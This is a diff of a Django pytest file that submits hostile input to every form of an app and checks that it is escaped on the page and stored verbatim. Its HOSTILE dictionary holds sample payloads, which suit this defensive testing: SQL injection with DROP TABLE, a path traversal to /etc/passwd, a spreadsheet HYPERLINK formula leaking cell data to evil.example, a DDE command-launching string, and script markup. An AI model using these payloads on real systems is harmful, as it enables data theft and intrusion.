@@ -9,7 +9,9 @@ every form. For each submission:
 - nothing answers 500 (the test client raises the view's exception);
 - a form shown again (200) carries the GOV.UK error summary when the text was refused;
 - the page shown afterwards (the form again, or where it redirects) never contains the
-  text as markup: `<script>` arrives escaped, as text.
+  text as markup: `<script>` arrives escaped, as text;
+- a saved form stores the text as typed: at least MIN_STORED forms leave a text column
+  holding it verbatim (not escaped, not cut).
 
 With `tamper_hidden`, the hidden fields (versions, ids) carry the text too, as a forged
 request would. The exports and PDFs get their own tests in test_hostile_output.py.
@@ -31,8 +33,7 @@ HOSTILE = {
     "sql": "Robert'); DROP TABLE recording_sessionrecord; -- \" OR 1=1 --",
     "path": "../../../../etc/passwd",
     "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "formula_plus": "+cmd|' /C calc'!A0",
-    "formula_minus_at": "-2+3 @SUM(A1:A9)",
+    "formula_plus": "+cmd|' /C calc'!A0 -2+3 @SUM(A1:A9)",
     "control": "Report\u202egnp.exe \u200b\u200f\x1b[31m\x07\x08\r tail",
     "nul": "before\x00after",
     "long": "L" * 20_000,
@@ -43,6 +44,7 @@ RAW_MARKERS = ('<script>alert("spr")', "<img src=x onerror")
 FILE_SUFFIXES = (".csv", ".ics", "/pdf/", "/download/", "/document/", "/evidence/")
 # At least this many distinct forms must be found: a drop means the finder broke.
 MIN_FORMS = 50
+MIN_STORED = 15
 
 
 @pytest.fixture
@@ -111,13 +113,46 @@ def page_forms(client, world, *, blind: bool = False):
                 yield row, owner, action.replace("/edit/", "/autosave/"), form
 
 
+def _text_columns():
+    """(model, [text field names]) for every model of the project's apps."""
+    from django.apps import apps
+    from django.db import models
+
+    ours = {"agencies", "contracts", "supervision", "recording", "evaluation", "reflection"}
+    found = []
+    for model in apps.get_models():
+        if model._meta.app_label not in ours:
+            continue
+        names = [
+            f.name
+            for f in model._meta.concrete_fields
+            if isinstance(f, models.CharField | models.TextField) and not f.choices
+        ]
+        if names:
+            found.append((model, names))
+    return found
+
+
+def stored_verbatim(text: str) -> bool:
+    """Whether some text column now holds exactly `text` (not escaped, not cut)."""
+    from django.db.models import Q
+
+    for model, names in _text_columns():
+        query = Q()
+        for name in names:
+            query |= Q(**{name: text})
+        if model._base_manager.filter(query).exists():
+            return True
+    return False
+
+
 def check_page(body: str, where: str, problems: list[str]) -> None:
     for marker in RAW_MARKERS:
         if marker in body:
             problems.append(f"{where}: the text reached the page as markup ({marker!r})")
 
 
-def submit(client, owner, action, form, text, *, tamper_hidden: bool) -> list[str]:
+def submit(client, owner, action, form, text, *, tamper_hidden: bool, outcome) -> list[str]:
     problems: list[str] = []
     data = fill(form, text, tamper_hidden=tamper_hidden)
     for name in file_fields(form):
@@ -132,6 +167,9 @@ def submit(client, owner, action, form, text, *, tamper_hidden: bool) -> list[st
     if "text/html" in response.get("Content-Type", ""):
         check_page(body, where, problems)
     if response.status_code == 302:
+        outcome["saved"] += 1
+        if "\x00" not in text and stored_verbatim(text.strip()):
+            outcome["stored"] += 1
         location = response["Location"]
         if location.startswith("/") and not location.startswith("/sign-in/"):
             after = client.get(location)
@@ -155,28 +193,35 @@ def submit(client, owner, action, form, text, *, tamper_hidden: bool) -> list[st
 def run_every_form(client, world, text: str, *, tamper_hidden: bool):
     problems: list[str] = []
     count = 0
+    outcome = {"saved": 0, "stored": 0}
     for row, owner, action, form in list(page_forms(client, world, blind=tamper_hidden)):
         count += 1
         savepoint = transaction.savepoint()
         try:
-            problems += submit(client, owner, action, form, text, tamper_hidden=tamper_hidden)
+            problems += submit(
+                client, owner, action, form, text, tamper_hidden=tamper_hidden, outcome=outcome
+            )
         except Exception as exc:  # noqa: BLE001 - every failure is reported, not the first
             problems.append(f"POST {action} ({row.name}): raised {type(exc).__name__}: {exc}"[:400])
         finally:
             transaction.savepoint_rollback(savepoint)
-    return count, problems
+    return count, problems, outcome
 
 
 @pytest.mark.parametrize("kind", list(HOSTILE))
 def test_every_form_stores_or_refuses_hostile_text_and_shows_it_escaped(client, world, kind):
-    count, problems = run_every_form(client, world, HOSTILE[kind], tamper_hidden=False)
+    count, problems, outcome = run_every_form(client, world, HOSTILE[kind], tamper_hidden=False)
     assert count >= MIN_FORMS, f"only {count} forms found"
     assert not problems, "\n".join(problems)
+    # Stored as typed, not escaped or cut, by the forms that keep free text (a drop means
+    # forms stopped saving, or started mangling what they save).
+    if kind not in ("nul", "long"):
+        assert outcome["stored"] >= MIN_STORED, outcome
 
 
 @pytest.mark.parametrize("kind", ["script", "nul", "long", "sql"])
 def test_forged_hidden_fields_are_refused_not_a_server_error(client, world, kind):
-    count, problems = run_every_form(client, world, HOSTILE[kind], tamper_hidden=True)
+    count, problems, _outcome = run_every_form(client, world, HOSTILE[kind], tamper_hidden=True)
     assert count >= MIN_FORMS
     assert not problems, "\n".join(problems)
 
